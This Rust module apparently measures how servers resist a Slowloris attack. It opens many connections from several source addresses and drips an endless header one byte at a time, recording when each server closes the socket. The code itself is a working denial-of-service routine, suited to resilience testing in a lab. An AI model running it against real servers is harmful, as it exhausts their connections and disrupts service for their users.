//! Slowloris: sockets that send a request line, then one header byte at a time and never finish the head,
//! each holding a connection (and whatever the server keeps per connection) for as long as the server
//! lets it. What matters is when the server closes each one.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// One slow socket's fate.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct SlowSocket {
    /// Where it connected.
    pub target: SocketAddr,
    /// How long after its connection the server closed it; `None` if it was still open when the
    /// observation ended.
    pub closed_after: Option<Duration>,
    /// Whether the connection was refused outright (a connection cap at work).
    pub refused: bool,
    /// Whether the server answered something (such as `408`) before closing.
    pub answered: bool,
}

/// Opens `sockets` connections, spread over `targets` and `sources`, each sending `GET / HTTP/1.1`, then one
/// byte of an endless header every `interval`, and watches each until the server closes it or `observe` has
/// passed since it connected.
pub async fn slowloris(
    targets: &[SocketAddr],
    sockets: usize,
    sources: &[Ipv4Addr],
    interval: Duration,
    observe: Duration,
) -> Vec<SlowSocket> {
    if targets.is_empty() || sources.is_empty() {
        return Vec::new();
    }
    let tasks = (0..sockets).map(|i| {
        let target = targets[i % targets.len()];
        let source = sources[i % sources.len()];
        tokio::spawn(slow_socket(target, source, interval, observe))
    });
    futures_util::future::join_all(tasks)
        .await
        .into_iter()
        .zip(0..)
        .map(|(result, i)| {
            result.unwrap_or(SlowSocket {
                target: targets[i % targets.len()],
                closed_after: None,
                refused: false,
                answered: false,
            })
        })
        .collect()
}

async fn slow_socket(
    target: SocketAddr,
    source: Ipv4Addr,
    interval: Duration,
    observe: Duration,
) -> SlowSocket {
    let mut fate = SlowSocket {
        target,
        closed_after: None,
        refused: false,
        answered: false,
    };
    let connected = async {
        let socket = tokio::net::TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(source.into(), 0))?;
        socket.connect(target).await
    };
    let mut stream = match tokio::time::timeout(Duration::from_secs(3), connected).await {
        Ok(Ok(stream)) => stream,
        _ => {
            fate.refused = true;
            fate.closed_after = Some(Duration::ZERO);
            return fate;
        }
    };
    let started = Instant::now();
    let deadline = tokio::time::Instant::now() + observe;
    let mut pending: &[u8] = b"GET / HTTP/1.1\r\nHost: lab\r\nX-Slow: ";
    let mut buf = [0u8; 1024];
    let mut next_byte = tokio::time::Instant::now();
    loop {
        tokio::select! {
            () = tokio::time::sleep_until(deadline) => return fate,
            read = stream.read(&mut buf) => match read {
                Ok(0) | Err(_) => {
                    fate.closed_after = Some(started.elapsed());
                    return fate;
                }
                Ok(_) => fate.answered = true,
            },
            () = tokio::time::sleep_until(next_byte) => {
                let chunk = if pending.is_empty() { &b"a"[..] } else { std::mem::take(&mut pending) };
                if stream.write_all(chunk).await.is_err() {
                    fate.closed_after = Some(started.elapsed());
                    return fate;
                }
                next_byte += interval;
            }
        }
    }
}
